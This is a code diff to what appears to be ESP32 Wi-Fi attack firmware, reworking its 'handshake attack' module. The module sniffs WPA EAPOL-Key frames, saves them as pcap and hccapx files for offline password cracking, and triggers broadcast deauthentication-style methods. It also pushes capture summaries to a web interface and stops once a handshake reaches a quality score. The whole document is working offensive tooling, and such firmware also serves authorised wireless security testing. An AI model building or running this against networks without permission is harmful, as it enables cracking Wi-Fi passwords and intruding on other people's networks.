@@ -15,6 +15,7 @@
 #include "esp_err.h"
 #include "esp_event.h"
 #include "esp_wifi_types.h"
+#include "hotpath_log.h"
 
 #include "attack.h"
 #include "attack_method.h"
@@ -22,42 +23,72 @@
 #include "frame_analyzer.h"
 #include "pcap_serializer.h"
 #include "hccapx_serializer.h"
+#include "frame_analyzer_parser.h"
+#include "webserver.h"
 
 static const char *TAG = "main:attack_handshake";
 static attack_handshake_methods_t method = -1;
 static const wifi_ap_record_t *ap_record = NULL;
 
+/**
+ * @brief Summarises captured EAPOL-Key frame for WebSocket clients.
+ * 
+ * @param analyzed_frame captured EAPOL-Key data frame
+ * @param summary output
+ */
+static void summarise_eapolkey_frame(const frame_analyzer_frame_t *analyzed_frame, webserver_handshake_summary_t *summary) {
+    const frame_view_t *view = &analyzed_frame->view;
+    uint8_t *payload = (uint8_t *) analyzed_frame->frame.payload;
+    memset(summary, 0, sizeof(webserver_handshake_summary_t));
+    summary->rssi = analyzed_frame->frame.rx_ctrl.rssi;
+    memcpy(summary->bssid, &payload[view->bssid], 6);
+    memcpy(summary->sta, &payload[view->sta], 6);
+    eapol_packet_t *eapol_packet = parse_eapol_packet(payload, view);
+    eapol_key_packet_t *eapol_key_packet = (eapol_packet != NULL) ? parse_eapol_key_packet(eapol_packet) : NULL;
+    if(eapol_key_packet == NULL){
+        return;
+    }
+    summary->message = parse_handshake_message(eapol_key_packet);
+}
+
 /**
  * @brief Callback for DATA_FRAME_EVENT_EAPOLKEY_FRAME event.
  * 
  * If EAPOL-Key frame is captured and DATA_FRAME_EVENT_EAPOLKEY_FRAME event is received from event pool, this method
  * appends the frame to status content and serialize them into pcap and hccapx format.
+ * Attack is stopped once captured handshake reaches CONFIG_ATTACK_HANDSHAKE_STOP_SCORE.
  * 
  * @param args not used
  * @param event_base expects FRAME_ANALYZER_EVENTS
  * @param event_id expects DATA_FRAME_EVENT_EAPOLKEY_FRAME
- * @param event_data expects wifi_promiscuous_pkt_t
+ * @param event_data expects frame_analyzer_frame_t
  */
 static void eapolkey_frame_handler(void *args, esp_event_base_t event_base, int32_t event_id, void *event_data) {
-    ESP_LOGI(TAG, "Got EAPoL-Key frame");
-    ESP_LOGD(TAG, "Processing handshake frame...");
-    wifi_promiscuous_pkt_t *frame = (wifi_promiscuous_pkt_t *) event_data;
+    HOTPATH_LOGI(TAG, "Got EAPoL-Key frame");
+    HOTPATH_LOGD(TAG, "Processing handshake frame...");
+    frame_analyzer_frame_t *analyzed_frame = (frame_analyzer_frame_t *) event_data;
+    wifi_promiscuous_pkt_t *frame = &analyzed_frame->frame;
     attack_append_status_content(frame->payload, frame->rx_ctrl.sig_len);
-    pcap_serializer_append_frame(frame->payload, frame->rx_ctrl.sig_len, frame->rx_ctrl.timestamp);
-    hccapx_serializer_add_frame((data_frame_t *) frame->payload);
+    pcap_serializer_append_frame(frame->payload, frame->rx_ctrl.sig_len, &analyzed_frame->view, frame->rx_ctrl.timestamp);
+    hccapx_serializer_add_frame(frame->payload, &analyzed_frame->view, frame->rx_ctrl.timestamp);
+
+    webserver_handshake_summary_t summary;
+    summarise_eapolkey_frame(analyzed_frame, &summary);
+    webserver_push_handshake(&summary);
+
+#if CONFIG_ATTACK_HANDSHAKE_STOP_SCORE > 0
+    hccapx_quality_t quality;
+    if(hccapx_serializer_get_quality(&quality) && (quality.score >= CONFIG_ATTACK_HANDSHAKE_STOP_SCORE)){
+        ESP_LOGI(TAG, "Handshake with score %u captured, stopping attack", quality.score);
+        attack_stop(FINISHED);
+    }
+#endif
 }
 
-void attack_handshake_start(attack_config_t *attack_config){
-    ESP_LOGI(TAG, "Starting handshake attack...");
-    /*method = attack_config->method;
-    ap_record = attack_config->ap_record;
-    pcap_serializer_init();
-    hccapx_serializer_init(ap_record->ssid, strlen((char *)ap_record->ssid));
-    wifictl_sniffer_filter_frame_types(true, false, false);
-    wifictl_sniffer_start(ap_record->primary);
-    frame_analyzer_capture_start(SEARCH_HANDSHAKE, ap_record->bssid);
-    ESP_ERROR_CHECK(esp_event_handler_register(FRAME_ANALYZER_EVENTS, DATA_FRAME_EVENT_EAPOLKEY_FRAME, &eapolkey_frame_handler, NULL));
-    switch(attack_config->method){
+static void attack_handshake_start(const attack_config_t *attack_config){
+    method = attack_config->method;
+    ap_record = attack_config->ap_records[0];
+    switch(method){
         case ATTACK_HANDSHAKE_METHOD_BROADCAST:
             ESP_LOGD(TAG, "ATTACK_HANDSHAKE_METHOD_BROADCAST");
             attack_method_broadcast(ap_record, 5);
@@ -72,10 +103,11 @@ void attack_handshake_start(attack_config_t *attack_config){
             break;
         default:
             ESP_LOGD(TAG, "Method unknown! Fallback to ATTACK_HANDSHAKE_METHOD_PASSIVE");
-    }*/
+            method = ATTACK_HANDSHAKE_METHOD_PASSIVE;
+    }
 }
 
-void attack_handshake_stop(){
+static void attack_handshake_stop(){
     switch(method){
         case ATTACK_HANDSHAKE_METHOD_BROADCAST:
             attack_method_broadcast_stop();
@@ -90,10 +122,17 @@ void attack_handshake_stop(){
         default:
             ESP_LOGE(TAG, "Unknown attack method! Attack may not be stopped properly.");
     }
-    wifictl_sniffer_stop();
-    frame_analyzer_capture_stop();
-    ESP_ERROR_CHECK(esp_event_handler_unregister(ESP_EVENT_ANY_BASE, ESP_EVENT_ANY_ID, &eapolkey_frame_handler));
     ap_record = NULL;
     method = -1;
     ESP_LOGD(TAG, "Handshake attack stopped");
-}
\ No newline at end of file
+}
+
+const attack_ops_t attack_handshake_ops = {
+    .name = "handshake",
+    .resources = ATTACK_RESOURCE_CAPTURE_STORE | ATTACK_RESOURCE_SERIALIZERS | ATTACK_RESOURCE_SNIFFER | ATTACK_RESOURCE_EVENT_HANDLER,
+    .search = SEARCH_HANDSHAKE,
+    .event_id = DATA_FRAME_EVENT_EAPOLKEY_FRAME,
+    .event_handler = &eapolkey_frame_handler,
+    .start = &attack_handshake_start,
+    .stop = &attack_handshake_stop
+};